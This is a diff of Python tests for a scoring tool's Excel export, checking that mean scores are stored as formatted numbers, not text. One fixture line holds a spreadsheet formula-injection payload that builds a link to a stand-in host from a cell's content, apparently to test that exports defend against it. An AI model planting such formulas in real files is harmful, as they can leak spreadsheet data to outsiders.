@@ -12,6 +12,7 @@ from openpyxl import load_workbook
 import scoring
 from scoring import export
 from tests.test_scoring_cli import run
+from tests.test_scoring_export import excel_text
 
 EVIL = '=HYPERLINK("http://x"&B2,"详情")'
 RULES = scoring.load_rules("shanghaimiao-2022")
@@ -84,11 +85,12 @@ def mean_cells(scores):
 
 
 def test_xlsx_mean_of_199_nines_and_one_8_reads_8_99_not_9_00():
-    """Issue 7 item 2: mean 8.995 is 较好; the cell Excel and WPS show is the page's text."""
+    """Issue 7 item 2: mean 8.995 is 较好; the cell Excel and WPS show is the page's text (a number: the shown
+    value under "0.00", which Excel cannot round up to 9.00)."""
     df, row = mean_cells([9] * 199 + [8])
     assert df.grade[0] == "较好"
-    assert (row["平均分"].value, row["平均分"].data_type) == ("8.99", "s")
-    assert row["平均分"].value == scoring.mean_text(df["mean"][0], RULES)
+    assert (row["平均分"].value, row["平均分"].data_type, row["平均分"].number_format) == (8.99, "n", "0.00")
+    assert excel_text(row["平均分"]) == scoring.mean_text(df["mean"][0], RULES) == "8.99"
     assert row["平均分（未舍入）"].value == 8.995
 
 
@@ -100,4 +102,4 @@ def test_xlsx_mean_of_3_9995_reads_below_4():
     ws = load_workbook(io.BytesIO(export.results_workbook(df, rules=rules)))["评议结果"]
     row = {c.value: v for c, v in zip(ws[1], ws[2])}
     assert df.grade[0] == "差" and df["mean"][0] == 3.9995
-    assert row["平均分"].value == "3.999" and row["平均分"].data_type == "s"
+    assert (row["平均分"].value, row["平均分"].number_format) == (3.999, "0.000") and excel_text(row["平均分"]) == "3.999"
